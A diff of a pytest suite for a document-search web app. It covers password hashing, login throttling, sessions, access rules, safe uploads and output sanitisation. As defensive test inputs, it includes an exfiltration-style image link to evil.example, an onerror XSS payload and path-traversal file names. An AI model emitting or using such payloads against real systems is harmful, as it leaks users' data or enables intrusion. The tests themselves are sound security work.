@@ -10,12 +10,12 @@ from markdown_it import MarkdownIt
 from conftest import SAMPLE, make_pdf, run_cli
 from workbench.access import ADMIN, Principal, can_read, filters_for
 from workbench.errors import NotFoundError, WorkbenchError
-from workbench.feedback import FeedbackStore
-from workbench.records import Answer, Citation, Document
-from workbench.uploads import safe_filename, store_upload
-from workbench.users import UserStore
+from workbench.stores.feedback import FeedbackStore
+from workbench.records import Answer, Chunk, Citation, Document
+from workbench.stores.uploads import safe_filename, store_upload
+from workbench.stores.users import UserStore
 
-from apps import render
+from workbench_web import render
 
 
 # ---- users ---------------------------------------------------------------------------------------
@@ -26,7 +26,8 @@ def test_users_are_stored_with_argon2_hashes_and_verified(tmp_path):
     import sqlite3
 
     [(stored,)] = sqlite3.connect(store.path).execute("SELECT password_hash FROM users").fetchall()
-    assert stored.startswith("$argon2id$") and "correct horse" not in stored
+    assert stored.startswith("$argon2id$")
+    assert "correct horse" not in stored
     assert store.verify("alice", "correct horse").groups == ("staff", "admin")
     assert store.verify("alice", "wrong") is None
     assert store.verify("nobody", "correct horse") is None
@@ -37,34 +38,56 @@ def test_users_are_stored_with_argon2_hashes_and_verified(tmp_path):
     with pytest.raises(WorkbenchError, match="user name"):
         store.add("../etc", "long enough pw")
     store.set_password("alice", "new password!")
-    assert store.verify("alice", "correct horse") is None and store.verify("alice", "new password!")
+    assert store.verify("alice", "correct horse") is None
+    assert store.verify("alice", "new password!")
     store.remove("alice")
-    assert store.get("alice") is None and store.list() == []
+    assert store.get("alice") is None
+    assert store.list() == []
 
 
 def test_failed_logins_delay_only_that_client_for_that_name():
-    from workbench.sessions import LoginThrottle
+    from workbench.stores.sessions import LoginThrottle
 
     now = [1000.0]
     throttle = LoginThrottle(attempts=3, max_delay_s=60, clock=lambda: now[0])
     for _ in range(3):
-        assert throttle.wait_s("10.0.0.9", "carol") == 0
-        throttle.failed("10.0.0.9", "carol")
+        assert throttle.begin("10.0.0.9", "carol") == 0
+        throttle.end("10.0.0.9", "carol", ok=False)
     assert throttle.wait_s("10.0.0.9", "carol") == pytest.approx(1.0)  # the attacker's client waits ...
-    assert throttle.wait_s("10.0.0.7", "carol") == 0  # ... the rightful user's client never does
-    assert throttle.wait_s("10.0.0.9", "dave") == 0  # and other names are not affected
+    assert throttle.begin("10.0.0.9", "carol") == pytest.approx(1.0)  # ... and gets no password check
+    assert throttle.wait_s("10.0.0.7", "carol") == 0  # the rightful user's client never does
+    assert throttle.wait_s("10.0.0.9", "dave") == 0  # other names are not affected (yet)
     for _ in range(10):
         throttle.failed("10.0.0.9", "carol")
     assert throttle.wait_s("10.0.0.9", "carol") == pytest.approx(60.0)  # doubling, capped at max_delay_s
+    assert throttle.wait_s("10.0.0.9", "dave") > 0  # 12+ failures across names: that client waits for all
+    assert throttle.wait_s("10.0.0.7", "dave") == 0
     now[0] += 61
     assert throttle.wait_s("10.0.0.9", "Carol") == 0
-    throttle.succeeded("10.0.0.9", "carol")
-    throttle.failed("10.0.0.9", "carol")
-    assert throttle.wait_s("10.0.0.9", "carol") == 0  # a success starts the count again
+    assert throttle.begin("10.0.0.7", "erin") == 0
+    throttle.end("10.0.0.7", "erin", ok=False)
+    throttle.succeeded("10.0.0.7", "erin")
+    assert throttle.wait_s("10.0.0.7", "erin") == 0  # a success starts that name's count again
+
+
+def test_one_client_runs_few_password_checks_at_once_and_ipv6_counts_per_64():
+    from workbench.stores.sessions import LoginThrottle, client_key
+
+    throttle = LoginThrottle(attempts=5, max_delay_s=60, per_client=2)
+    assert throttle.begin("10.0.0.9", "a") == 0
+    assert throttle.begin("10.0.0.9", "a") > 0  # the same name twice at once: no race past the count
+    assert throttle.begin("10.0.0.9", "b") == 0
+    assert throttle.begin("10.0.0.9", "c") > 0  # a third check at once from one client
+    assert throttle.begin("10.0.0.8", "c") == 0  # another client is not affected
+    throttle.end("10.0.0.9", "a", ok=False)
+    assert throttle.begin("10.0.0.9", "c") == 0
+    assert client_key("2001:db8::1") == client_key("2001:db8::ffff") != client_key("2001:db8:0:1::1")
+    assert client_key("::ffff:10.0.0.9") == "10.0.0.9"
 
 
 def test_sessions_expire_when_idle_or_old_and_end_when_the_account_changes(tmp_path):
-    from workbench.sessions import GradioTokens, SessionStore
+    from workbench_web import GradioTokens
+    from workbench.stores.sessions import SessionStore
 
     users = UserStore(tmp_path)
     users.add("erin", "erin's password", "staff")
@@ -74,7 +97,8 @@ def test_sessions_expire_when_idle_or_old_and_end_when_the_account_changes(tmp_p
     token = store.start(users.get("erin"))
     for _ in range(4):  # used every 6 s: never idle ...
         now[0] += 6
-        assert tokens.get(token) == "erin" and token in tokens
+        assert tokens.get(token) == "erin"
+        assert token in tokens
     now[0] += 6  # ... but older than 25 s
     assert tokens.get(token) is None
     idle = store.start(users.get("erin"))
@@ -96,18 +120,21 @@ def test_users_commands(tmp_path):
     idx = str(tmp_path / "idx")
     add = run_cli("users", "add", "dave", "--groups", "finance", "--password-stdin", "--index", idx,
                   input="dave's password\n")
-    assert add.returncode == 0 and "added dave" in add.stdout
+    assert add.returncode == 0
+    assert "added dave" in add.stdout
     assert run_cli("users", "list", "--index", idx).stdout.split() == ["dave", "finance"]
     listed = run_cli("users", "list", "--json", "--index", idx)
     assert '"groups": [\n      "finance"' in listed.stdout
     short = run_cli("users", "passwd", "dave", "--password-stdin", "--index", idx, input="x\n")
-    assert short.returncode == 2 and "too short" in short.stderr
+    assert short.returncode == 2
+    assert "too short" in short.stderr
     assert run_cli("users", "passwd", "dave", "--password-stdin", "--index", idx, input="a new password\n").returncode == 0
     assert UserStore(tmp_path / "idx").verify("dave", "a new password")
     assert run_cli("users", "groups", "dave", "finance,admin", "--index", idx).returncode == 0
     assert UserStore(tmp_path / "idx").get("dave").groups == ("finance", "admin")
     gone = run_cli("users", "remove", "erin", "--index", idx)
-    assert gone.returncode == 2 and "no user 'erin'" in gone.stderr
+    assert gone.returncode == 2
+    assert "no user 'erin'" in gone.stderr
     assert run_cli("users", "remove", "dave", "--index", idx).returncode == 0
     assert "no users yet" in run_cli("users", "list", "--index", idx).stdout
 
@@ -120,8 +147,10 @@ def _doc(groups=()) -> Document:
 
 def test_one_access_rule_for_search_and_single_documents():
     staff = Principal("sam", ("staff",))
-    assert can_read(ADMIN, _doc(("finance",))) and can_read(None, _doc(("finance",)))
-    assert can_read(staff, _doc(("staff", "hr"))) and not can_read(staff, _doc(("finance",)))
+    assert can_read(ADMIN, _doc(("finance",)))
+    assert can_read(None, _doc(("finance",)))
+    assert can_read(staff, _doc(("staff", "hr")))
+    assert not can_read(staff, _doc(("finance",)))
     assert not can_read(staff, _doc(())) and can_read(ADMIN, _doc(()))  # no groups: admins only
     assert filters_for(staff).groups == ("staff",)
     assert filters_for(Principal("root", ("admin",), True)).groups is None
@@ -131,9 +160,11 @@ def test_search_honours_the_principal(make_wb, tmp_path):
     wb = make_wb()
     wb.ingest(SAMPLE, progress=False)
     hits = wb.search("annual leave days", k=3, principal=Principal("sam", ("staff",)))
-    assert hits and hits[0].chunk.title == "Northwind Aero Employee Handbook 2026"
+    assert hits
+    assert hits[0].chunk.title == "Northwind Aero Employee Handbook 2026"
     view = wb.source(hits[0].chunk.chunk_id, Principal("sam", ("staff",)))
-    assert "annual leave" in view.chunk.text.lower() and view.is_pdf
+    assert "annual leave" in view.chunk.text.lower()
+    assert view.is_pdf
     assert wb.page_image(hits[0].chunk.chunk_id).startswith(b"\x89PNG")
     with pytest.raises(NotFoundError):
         wb.source(123456789)
@@ -141,13 +172,18 @@ def test_search_honours_the_principal(make_wb, tmp_path):
 
 def test_feedback_keeps_question_answer_citations_and_generation(tmp_path):
     store = FeedbackStore(tmp_path)
-    c = Citation(1, 42, "d1", "/a.pdf", "", "Handbook", "page 2", 2, "text")
-    answer = Answer("Q?", "It is 25 days [1].", citations=(c, Citation(2, 43, "d2", "/b", "", "B", "", None, "t")),
+    c = Citation(1, Chunk(42, "d1", 0, "text", 0, 4, page=2, path="/a.pdf", title="Handbook", format="pdf"))
+    other = Citation(2, Chunk(43, "d2", 0, "t", 0, 1, path="/b", title="B"))
+    answer = Answer("Q?", "It is 25 days [1].", citations=(c, other), cited_numbers=(1,),
                     generation=7)
     entry_id = store.add("sam", answer, -1, " wrong number ")
     [entry] = store.list()
-    assert entry.id == entry_id and entry.rating == -1 and entry.comment == "wrong number"
-    assert entry.generation == 7 and entry.question == "Q?" and [x["number"] for x in entry.citations] == [1]
+    assert entry.id == entry_id
+    assert entry.rating == -1
+    assert entry.comment == "wrong number"
+    assert entry.generation == 7
+    assert entry.question == "Q?"
+    assert [x["number"] for x in entry.citations] == [1]
     with pytest.raises(ValueError):
         store.add("sam", answer, 0)
 
@@ -173,7 +209,8 @@ def test_uploads_land_only_in_the_collection_folder(tmp_path):
     src = tmp_path / "tmpupload"
     src.write_text("hello")
     target = store_upload(tmp_path / "idx", "hr", src, "../../../outside.txt", max_mb=1)
-    assert target == tmp_path / "idx" / "uploads" / "hr" / "outside.txt" and target.read_text() == "hello"
+    assert target == tmp_path / "idx" / "uploads" / "hr" / "outside.txt"
+    assert target.read_text() == "hello"
     with pytest.raises(WorkbenchError, match="not supported"):
         store_upload(tmp_path / "idx", "hr", src, "tool.exe", max_mb=1)
     big = tmp_path / "big"
@@ -212,33 +249,40 @@ HOSTILE = ("![x](https://evil.example/leak?q=secret) <img src=https://evil.examp
 
 def test_model_output_cannot_make_images_links_or_html():
     out = _html(render.answer_markdown(HOSTILE))
-    assert "<img" not in out and "<a " not in out and "<script" not in out and "<strong>" not in out
+    assert "<img" not in out
+    assert "<a " not in out
+    assert "<script" not in out
+    assert "<strong>" not in out
     assert "evil.example" in out  # shown as text
 
 
 def test_only_checked_citations_become_links_to_the_viewer():
-    c = Citation(1, 42, "d1", "/a.pdf", "", "Handbook", "page 2", 2, "text")
+    c = Citation(1, Chunk(42, "d1", 0, "text", 0, 4, page=2, path="/a.pdf", title="Handbook", format="pdf"))
     out = _html(render.answer_markdown("Leave is 25 days [1]. See [7].", (c,)))
     assert re.findall(r'href="([^"]+)"', out) == ["source/42", "source/42"]  # in the text, then the sources line
-    assert "[7]" in out and "Sources:" in out
+    assert "[7]" in out
+    assert "Sources:" in out
     uncited = _html(render.answer_markdown("Leave is 25 days.", (c,)))
-    assert "the model cited none" in uncited and 'href="source/42"' in uncited
+    assert "the model cited none" in uncited
+    assert 'href="source/42"' in uncited
 
 
 def test_sources_panel_escapes_document_text():
-    c = Citation(1, 42, "d1", "/a.pdf", "", "<b>Title</b>", "page 2", 2, "<img src=x onerror=alert(1)>")
+    c = Citation(1, Chunk(42, "d1", 0, "<img src=x onerror=alert(1)>", 0, 29, page=2, path="/a.pdf",
+                          title="<b>Title</b>", format="pdf"))
     out = render.sources_html(Answer("q", "a [1]", citations=(c,)))
-    assert "<img" not in out and "&lt;img" in out and "href='source/42'" in out
+    assert "<img" not in out
+    assert "&lt;img" in out
+    assert "href='source/42'" in out
 
 
 # ---- server guards -------------------------------------------------------------------------------
 
 def test_header_sso_is_refused_unless_listening_on_loopback(make_wb, monkeypatch):
-    from apps.web import concurrency_for, create_server
+    from workbench_web import concurrency_for, create_server
 
     wb = make_wb()
-    web = wb.config.web.model_copy(update={"trusted_user_header": "X-Forwarded-User"})
-    wb.config = wb.config.model_copy(update={"web": web})
+    wb.config = wb.config.replace("web", trusted_user_header="X-Forwarded-User")
     with pytest.raises(WorkbenchError, match="only safe behind a reverse proxy"):
         create_server(wb, host="0.0.0.0")
     with pytest.raises(WorkbenchError, match="shared secret"):  # and only with the proxy's secret
@@ -250,11 +294,12 @@ def test_header_sso_is_refused_unless_listening_on_loopback(make_wb, monkeypatch
 
 
 def test_the_app_is_built_with_safe_defaults(make_wb):
-    from apps.web import build_app
+    from workbench_web import build_app
 
     demo = build_app(make_wb())
     assert demo.analytics_enabled is False
-    assert demo._queue.max_size == 16 and demo._queue.default_concurrency_limit == 1
+    assert demo._queue.max_size == 16
+    assert demo._queue.default_concurrency_limit == 1
     assert demo.api_open is False
     public = [d for d in demo.fns.values() if d.api_visibility == "public"]
     assert public == []
@@ -267,7 +312,8 @@ def test_uploads_refuse_collection_names_that_leave_the_upload_folder(make_wb, t
     for bad in ("../outside", "a/b", "..", "", "ünï"):
         with pytest.raises(WorkbenchError, match="collection name"):
             wb.upload([("x.txt", src)], bad)
-    assert not (wb.index_dir / "outside").exists() and not (tmp_path / "outside").exists()
+    assert not (wb.index_dir / "outside").exists()
+    assert not (tmp_path / "outside").exists()
 
 
 def test_unknown_users_are_not_the_operator(make_wb):
@@ -282,7 +328,8 @@ def test_a_file_changed_since_indexing_is_not_served(make_wb, tmp_path):
     wb = make_wb()
     wb.ingest(docs, progress=False)
     chunk = wb.chunks()[0]
-    assert wb.original_file(chunk.chunk_id).name == "a.pdf" and wb.page_image(chunk.chunk_id)
+    assert wb.original_file(chunk.chunk_id).name == "a.pdf"
+    assert wb.page_image(chunk.chunk_id)
     make_pdf(docs / "a.pdf", ["Alpha page, now with other and longer secret text than before."])
     for call in (wb.original_file, wb.page_image):
         with pytest.raises(NotFoundError, match="changed since it was indexed"):
